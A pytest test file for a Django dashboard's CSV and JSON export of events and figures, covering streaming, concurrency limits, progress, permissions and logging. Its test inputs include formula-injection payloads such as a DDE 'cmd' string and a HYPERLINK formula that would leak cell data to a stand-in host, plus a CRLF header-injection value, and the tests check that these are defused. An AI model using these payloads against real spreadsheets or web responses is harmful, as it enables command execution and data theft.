"""Files of events and figures: what stands in them, how they are sent, who may have how many at once."""

import csv
import gc
import io
import json
import logging
import threading
import tracemalloc
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any
from urllib.parse import parse_qsl, urlencode
from uuid import uuid4

import psycopg
import pytest
from django.contrib.auth import get_user_model
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from dashboard.exports import cells, slots, words
from dashboard.exports import events as event_file
from dashboard.exports.download import Download
from dashboard.exports.files import Csv
from dashboard.exports.words import Progress
from fallbacks import key_ring
from fallbacks.models import Export
from fallbacks.recording import record
from tests import servers
from tests.conftest import Person
from tests.dashboard import stage
from tests.dashboard.stage import asked_of_the_database, text_of
from tests.make import NOON, event, traffic

no_memory = stage.no_memory
BOM = "\ufeff".encode()
HOSTILE = 'ünï "quoted", commas;\r\n\tlines \u202e😀 <b>&amp;'


def start(client: Client, file: str = "csv", **query: Any) -> Any:
    """Ask for a download, without reading it."""
    return client.post(f"/events/export?{urlencode(query, doseq=True)}", {"format": file})


def read(client: Client, file: str = "csv", **query: Any) -> bytes:
    answer = start(client, file, **query)
    assert answer.status_code == 200, answer.content
    return bytes(answer.getvalue())


def rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def results(content: bytes) -> list[dict[str, Any]]:
    return list(json.loads(content)["results"])


def the_export() -> Export:
    return Export.objects.get()


def test_a_file_has_what_the_api_tells_of_the_same_events(viewer: Client) -> None:
    full = {
        "user_visible": True,
        "user_notified": False,
        "provider_features": ["beta", "a, b"],
        "attributes": '{"plan": "x"}',
        "cost_usd": Decimal("0.0000041"),
        "primary_latency_ms": 0,
        "output_tokens": 7,
        "tier": "pro",
    }
    record([event(occurred_at=NOON - timedelta(minutes=minute)) for minute in (5, 1, 3)])
    record([event(occurred_at=NOON - timedelta(seconds=61, microseconds=5), reason=HOSTILE, **full)])
    key = key_ring.make("tests", ["events:read"])
    api = Client(headers={"authorization": f"Bearer {key}"}).get("/api/v1/events").json()["results"]
    assert results(read(viewer, "json")) == api
    assert [row["occurred_at"] for row in api] == sorted((row["occurred_at"] for row in api), reverse=True)

    content = read(viewer)
    assert content.startswith(BOM + b"id,workload,environment,occurred_at,")
    found = rows(content)
    assert [row["id"] for row in found] == [row["id"] for row in api]
    told = next(row for row in found if row["tier"])
    assert told["reason"] == HOSTILE
    assert told["occurred_at"].endswith("Z")
    assert datetime.fromisoformat(told["occurred_at"]) == NOON - timedelta(seconds=61, microseconds=5)
    expected = {
        "user_visible": "true",
        "user_notified": "false",
        "provider_features": '["beta","a, b"]',
        "attributes": '{"plan":"x"}',
        "cost_usd": "0.0000041",
        "primary_latency_ms": "0",
        "fallback_latency_ms": "",
        "rules": '["undeclared_route"]',
    }
    assert {name: told[name] for name in expected} == expected
    assert not {"input", "output", "sample"} & set(told)


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "-", "=", "+49 170", "－1+1", "＝1"],
)
def test_what_a_spreadsheet_would_calculate_is_text(text: str) -> None:
    assert cells.cells([text]) == [f"'{text}"]


@pytest.mark.parametrize("text", ["", "-5", "+1.5", "-1e-7", "a=1", " =1", "'=1", "529", "https://x/?a=-1", "1-2"])
def test_numbers_and_other_texts_stay_as_they_are(text: str) -> None:
    assert cells.cells([text, -1, -0.5, None, True]) == [text, -1, -0.5, "", "true"]


def test_formulas_of_services_are_defused_in_csv_and_untouched_in_json(viewer: Client) -> None:
    evil = '=HYPERLINK("http://x/"&A1;"open")'
    record([event(reason=evil, error_code="-5", primary="@x", tier="-a")])
    (row,) = rows(read(viewer))
    assert (row["reason"], row["error_code"], row["primary"], row["tier"]) == (f"'{evil}", "-5", "'@x", "'-a")
    (told,) = results(read(viewer, "json"))
    assert (told["reason"], told["primary"]) == (evil, "@x")


def test_filters_and_the_span_hold_and_the_place_in_the_list_does_not(viewer: Client) -> None:
    record(
        [
            event(id="this", outcome="failed"),
            event(id="served"),
            event(id="old", occurred_at=NOON - timedelta(days=3), outcome="failed"),
            event(id="other", workload="other", outcome="failed"),
            event(id="staging", environment="staging", outcome="failed"),
        ]
    )
    query = {"outcome": "failed", "workload": "support-chat", "range": "24h"}
    assert [row["id"] for row in rows(read(viewer, **query))] == ["this"]
    assert [row["id"] for row in rows(read(viewer, **query | {"range": "7d", "after": "x", "open": "y"}))] == [
        "this",
        "old",
    ]
    assert [dict(parse_qsl(export.query)) for export in Export.objects.order_by("started_at")] == [
        query,
        query | {"range": "7d"},
    ]
    assert results(read(viewer, "json", environment="staging"))[0]["id"] == "staging"
    answer = start(viewer, workload=["support-chat", "\r\nSet-Cookie: a=b"])
    assert answer["Content-Disposition"].startswith(
        'attachment; filename="events_support-chat_Set-Cookie-a-b_production_'
    )
    assert answer["Content-Disposition"].endswith('Z.csv"')
    answer.getvalue()


def test_what_is_not_understood_is_said_and_nothing_is_sent(viewer: Client) -> None:
    for query in ({"outcome": "nonsense"}, {"reason": "a\0b"}, {"status": "999"}):
        answer = start(viewer, **query)
        assert answer.status_code == 400
        assert "Nothing is exported as long as a value is not understood" in text_of(answer.content)
    assert start(viewer, "xml").status_code == 400
    assert not Export.objects.exists()
    # As on the page of the list.
    text = text_of(viewer.get("/events/export?no_such=filter&range=1y").content)
    assert "There is no filter “no_such”." in text
    assert "There is no such range." in text


def test_an_empty_list_is_a_whole_file(viewer: Client) -> None:
    assert rows(read(viewer)) == []
    assert json.loads(read(viewer, "json")) == {"results": [], "next": None}


def test_many_events_of_one_instant_come_once_each_in_batches(viewer: Client, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(event_file, "BATCH", 7)
    record([event(id=f"e{number:03}", workload=f"w{number % 3}") for number in range(100)])
    found = rows(read(viewer))
    assert len(found) == 100
    assert {row["id"] for row in found} == {f"e{number:03}" for number in range(100)}
    export = the_export()
    assert (export.state, export.written, export.total) == ("done", 100, 100)


def test_memory_holds_one_batch_however_long_the_list_is(viewer: Client, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(event_file, "BATCH", 100)
    record([event(reason="x" * 400) for _ in range(3_000)])

    def most(**query: Any) -> int:
        """The most memory while a file is read piece by piece."""
        pieces = start(viewer, **query).streaming_content
        next(pieces)
        tracemalloc.start()
        for _ in pieces:
            pass
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return peak

    most(workload="none")
    little = most(id=["event-1"])
    assert most() < little + 3_000_000
    # What is not read is not asked for either.
    answer = start(viewer)
    with CaptureQueriesContext(connection) as asked:
        pieces = iter(answer.streaming_content)
        for _ in range(3):
            next(pieces)
    assert sum("FROM event" in each["sql"] for each in asked) == 2
    answer.close()


def test_two_at_a_time_and_the_next_is_told_when(viewer: Client) -> None:
    record([event() for _ in range(3)])
    held = [start(viewer), start(viewer, "json")]
    refused = start(viewer)
    assert refused.status_code == 429
    assert 5 <= int(refused["Retry-After"]) <= 120
    assert "Not now: 2 exports go on already." in text_of(refused.content)
    held[0].getvalue()
    assert len(rows(read(viewer))) == 3
    held[1].close()


def test_slots_are_shared_by_all_processes_and_those_of_dead_ones_are_free(viewer: Client) -> None:
    owner = get_user_model().objects.get()
    for _ in range(2):
        Export.objects.create(owner=owner, what="x", format="csv", total=100, written=50, start=NOON, end=NOON)
    assert start(viewer).status_code == 429
    Export.objects.update(seen_at=timezone.now() - slots.SILENT_FOR - timedelta(seconds=1))
    assert read(viewer).startswith(BOM)
    assert sorted(Export.objects.values_list("state", flat=True)) == ["broken", "broken", "done"]


def test_many_that_ask_at_once_get_two(viewer: Client, monkeypatch: pytest.MonkeyPatch) -> None:
    owner = get_user_model().objects.get()
    # As if each were a process of its own.
    monkeypatch.setattr(slots, "threads", threading.BoundedSemaphore(8))
    together, got = threading.Barrier(8), []

    def ask() -> None:
        together.wait()
        try:
            slots.claim(Export(owner=owner, what="events", format="csv", start=NOON, end=NOON))
            got.append(1)
        except slots.Busy:
            pass
        finally:
            connection.close()

    threads = [threading.Thread(target=ask) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(got) == Export.objects.count() == slots.MOST


def test_a_form_sent_twice_at_once_is_two_exports(viewer: Client) -> None:
    owner, chosen = get_user_model().objects.get(), uuid4()
    exports = [Export(id=chosen, owner=owner, what="x", format="csv", start=NOON, end=NOON) for _ in range(2)]
    for export in exports:
        slots.claim(export)
        slots.threads.release()
    assert exports[0].pk == chosen
    assert set(Export.objects.values_list("pk", flat=True)) == {export.pk for export in exports}
    assert Export.objects.count() == 2


def test_a_browser_that_goes_away_frees_the_slot(viewer: Client) -> None:
    record([event() for _ in range(3)])
    kept = []
    for pieces in (0, 1, 2):
        kept.append(start(viewer))
        for _, _ in zip(range(pieces), kept[-1].streaming_content, strict=False):
            pass
        kept[-1].close()
    assert list(Export.objects.values_list("state", flat=True)) == ["left"] * 3
    export = Export(owner=get_user_model().objects.get(), what="x", format="csv", start=NOON, end=NOON)
    slots.claim(export)
    download = Download(export, Csv(["id"]), [])
    download.close()
    assert download.written == 0
    assert all(slots.threads.acquire(blocking=False) for _ in range(slots.MOST))
    slots.threads.release(slots.MOST)
    # Nobody closes it, not even the server.
    kept.clear()
    start(viewer)
    start(viewer)
    gc.collect()
    assert slots.threads.acquire(blocking=False)
    slots.threads.release()


@pytest.mark.parametrize("file", ["csv", "json"])
def test_a_file_that_breaks_off_says_so(
    viewer: Client, running_servers: servers.Servers, monkeypatch: pytest.MonkeyPatch, file: str
) -> None:
    monkeypatch.setattr(event_file, "BATCH", 2)
    record([event() for _ in range(6)])
    answer = start(viewer, file)
    content = b"".join(next(answer.streaming_content) for _ in range(3))
    with psycopg.connect(running_servers.superuser_url, autocommit=True) as other:
        other.execute("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()")
    content += answer.getvalue()
    if file == "csv":
        *whole, last = rows(content)
        assert len(whole) == 4
        assert last["id"].startswith("This file is cut off: the database did not answer in time.")
    else:
        assert b'"cut_off":"the database' in content
        with pytest.raises(json.JSONDecodeError):
            json.loads(content)
    export = the_export()
    assert (export.state, export.written) == ("broken", 4)
    assert "It broke off: the file says so at its end." in text_of(viewer.get(f"/exports/{export.pk}").content)
    assert "It broke off" in text_of(viewer.get("/exports").content)
    read(viewer)


def test_one_that_was_taken_for_dead_ends_instead_of_holding_a_third_slot(
    viewer: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(event_file, "BATCH", 2)
    monkeypatch.setattr("dashboard.exports.download.TOLD_EVERY", -1.0)
    record([event() for _ in range(6)])
    answer = start(viewer)
    next(answer.streaming_content)
    Export.objects.update(state="broken")
    assert b"This file is cut off: the browser did not read on for too long." in answer.getvalue()


def test_progress_is_told_to_its_owner_alone(viewer: Client, person: Person, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(event_file, "BATCH", 2)
    monkeypatch.setattr("dashboard.exports.download.TOLD_EVERY", -1.0)
    record([event() for _ in range(6)])
    chosen = uuid4().hex
    waits = viewer.get(f"/exports/{chosen}?tries=3", headers={"HX-Request": "true"})
    assert "The export begins." in waits.content.decode()
    assert f"/exports/{chosen}?tries=2" in waits.content.decode()
    answer: Any = viewer.post("/events/export", {"format": "json", "id": chosen})
    for _ in range(3):
        next(answer.streaming_content)
    told = viewer.get(f"/exports/{chosen}", headers={"HX-Request": "true"}).content.decode()
    assert 'hx-trigger="load delay:1s"' in told
    text = text_of(f"<main>{told}".encode())
    assert "Export of 6 events as JSON" in text
    assert "4 written" in text or "2 written" in text
    assert "The download goes on if you leave this page." in text
    # The same id again is another export, not the same.
    assert viewer.post("/events/export", {"format": "json", "id": chosen}).status_code == 200
    other = person("engineer")
    assert other.get(f"/exports/{chosen}").status_code == 404
    assert "Export of" not in other.get(f"/exports/{chosen}?tries=1").content.decode()
    assert viewer.get("/exports/none").status_code == 404
    answer.getvalue()
    told = viewer.get(f"/exports/{chosen}", headers={"HX-Request": "true"}).content.decode()
    assert "hx-get" not in told
    assert "The file is complete." in told


def test_everybody_with_a_role_may_export_and_nobody_else(person: Person, database: None) -> None:
    assert start(Client()).status_code == 302
    assert start(person()).status_code == 403
    assert start(person("viewer")).status_code == 200


def test_each_export_is_a_line_of_the_log_without_any_text(viewer: Client, caplog: pytest.LogCaptureFixture) -> None:
    record([event(reason="secret words", request_id="req-1") for _ in range(3)])
    with caplog.at_level(logging.INFO, "dashboard"):
        read(viewer, reason="secret words", request_id="req-1")
        viewer.get("/exports/figures/overview?format=json").getvalue()
    ended, figures = (vars(line) for line in caplog.records)
    assert (ended["who"], ended["rows"], ended["format"], ended["state"]) == ("viewer", 3, "csv", "done")
    assert ended["what"] == "events of production"
    assert (figures["who"], figures["what"], figures["rows"]) == ("viewer", "overview", 1)
    assert "secret" not in str(ended)
    assert "req-1" not in str(ended)


def test_what_an_export_would_hold_is_said_before(viewer: Client) -> None:
    record([event(), event(outcome="failed", tier="pro")])
    text = text_of(viewer.get("/events/export?outcome=failed&after=x").content)
    assert "1 event to export" in text
    assert "At most 1 event to export" in text_of(viewer.get("/events/export?outcome=failed&tier=pro").content)


def test_figures_are_those_of_the_api(viewer: Client) -> None:
    stage.put_models()
    stage.put_policy()
    record(
        [
            event(tier="pro", primary_latency_ms=900, fallback_latency_ms=50),
            event(outcome="failed"),
            event(workload="other", occurred_at=NOON - timedelta(hours=2)),
        ],
        [traffic(requests=200)],
    )
    key = key_ring.make("tests", ["rates:read"])
    api = Client(headers={"authorization": f"Bearer {key}"})
    told = api.get("/api/v1/rates?environment=production&by=workload").json()["totals"]
    found = results(viewer.get("/exports/figures/overview?format=json").getvalue())
    assert len(found) == len(told) == 2
    for mine, theirs in zip(found, told, strict=True):
        assert mine["environment"] == "production"
        for name, value in theirs.items():
            for part, each in value.items() if isinstance(value, dict) else [("", value)]:
                assert mine[f"{name}_{part}" if part else name] == each

    assert [(row["workload"], row["owner"], row["state"]) for row in found] == [
        ("other", "", "no_traffic"),
        ("support-chat", "team-support-chat", "normal"),
    ]
    for query, slugs in (("state=normal", ["support-chat"]), ("owner=team-support-chat&state=no_traffic", [])):
        narrowed = results(viewer.get(f"/exports/figures/overview?format=json&{query}").getvalue())
        assert [row["workload"] for row in narrowed] == slugs

    broken = rows(viewer.get("/exports/figures/violations?format=csv").getvalue())
    assert {(row["workload"], row["rule"]): row["events"] for row in broken} == {
        ("support-chat", "silent"): "1",
        ("support-chat", "not_enabled"): "1",
        ("other", "undeclared_route"): "1",
    }

    answer = viewer.get("/exports/figures/workload?workload=support-chat&range=24h&format=csv")
    series = rows(answer.getvalue())
    assert answer["Content-Disposition"].startswith('attachment; filename="workload_support-chat_production_')
    assert sum(int(row["events"]) for row in series) == 2
    (busy,) = [row for row in series if row["events"] != "0"]
    assert (busy["requests"], busy["degraded_rate"], busy["start"][-1]) == ("200", "0.005", "Z")
    for path in ("none?format=csv", "overview?format=xml", "workload?format=csv", "episodes?workload=no%00ne"):
        assert viewer.get(f"/exports/figures/{path}").status_code == 404


def test_episodes_are_those_of_the_workloads_page(viewer: Client) -> None:
    record(
        [event(outcome="failed", fallback=None, status="503") for _ in range(30)],
        [traffic(start=NOON, requests=100)],
    )
    path = "/exports/figures/episodes?workload=support-chat&format="
    (told,) = results(viewer.get(f"{path}json").getvalue())
    assert (told["state"], told["cause"], told["events"], told["peak_rate"]) == ("failing", "unavailable", 30, 0.3)
    assert datetime.fromisoformat(told["start"]) == NOON
    assert datetime.fromisoformat(told["end"]) > NOON
    (row,) = rows(viewer.get(f"{path}csv").getvalue())
    assert row["start"] == told["start"]


def test_how_long_it_takes_is_said_as_well_as_it_is_known() -> None:
    now = datetime(2026, 11, 17, 14, tzinfo=UTC)
    export = Export(format="csv", total=1_204_331, written=612_000, started_at=now - timedelta(seconds=21), seen_at=now)
    assert Progress(export, now).title == "Export of 1,204,331 events as CSV"
    assert Progress(export, now).rest.startswith("About 20 s more.")
    assert [words.about(seconds) for seconds in (None, 3, 89, 200)] == [
        "How long it takes is not known yet.",
        "A few seconds more.",
        "About 90 s more.",
        "About 3 min more.",
    ]
    assert not Progress(export, now + slots.SILENT_FOR + timedelta(seconds=1)).goes_on


def test_pages_ask_the_database_no_more_than_they_need(viewer: Client) -> None:
    record([event()])
    read(viewer)
    # Session, person, roles, exports.
    assert len(asked_of_the_database(viewer, "/exports")) <= 4
    # Session, person, roles, environments, the count.
    assert len(asked_of_the_database(viewer, "/events/export")) <= 5


def test_old_rows_go_with_retention(viewer: Client) -> None:
    from fallbacks import retention

    read(viewer)
    read(viewer)
    old = Export.objects.order_by("started_at").first()
    assert old is not None
    Export.objects.filter(pk=old.pk).update(started_at=timezone.now() - timedelta(days=31))
    retention.apply(timezone.now())
    assert Export.objects.count() == 1
